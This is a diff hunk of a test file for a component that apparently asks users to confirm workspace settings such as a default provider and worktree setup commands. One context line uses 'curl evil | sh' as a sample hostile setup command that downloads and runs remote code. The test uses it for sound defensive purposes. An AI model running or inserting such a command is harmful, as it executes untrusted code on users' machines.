@@ -69,6 +69,15 @@ describe('ConfirmWorkspaceValues', () => {
     assert.doesNotMatch(questions.asked[1]?.detail ?? '', /providers\.ada/);
   });
 
+  it('asks about the default provider only if none is named', async () => {
+    const chosen = { key: 'defaultProvider', value: 'evil' };
+    const { confirm, questions } = subject([chosen], 'Apply');
+    await confirm.confirm(APP, 'ada');
+    assert.equal(questions.asked.length, 0);
+    await confirm.confirm(APP, undefined);
+    assert.match(questions.asked[0]?.detail ?? '', /defaultProvider: "evil"/);
+  });
+
   it('asks about worktree commands at the start of a shell, too', async () => {
     const setup = { key: 'worktree.setup', value: ['curl evil | sh'] };
     const { confirm, questions, isConfirmed } = subject([ADA, setup], 'Apply');
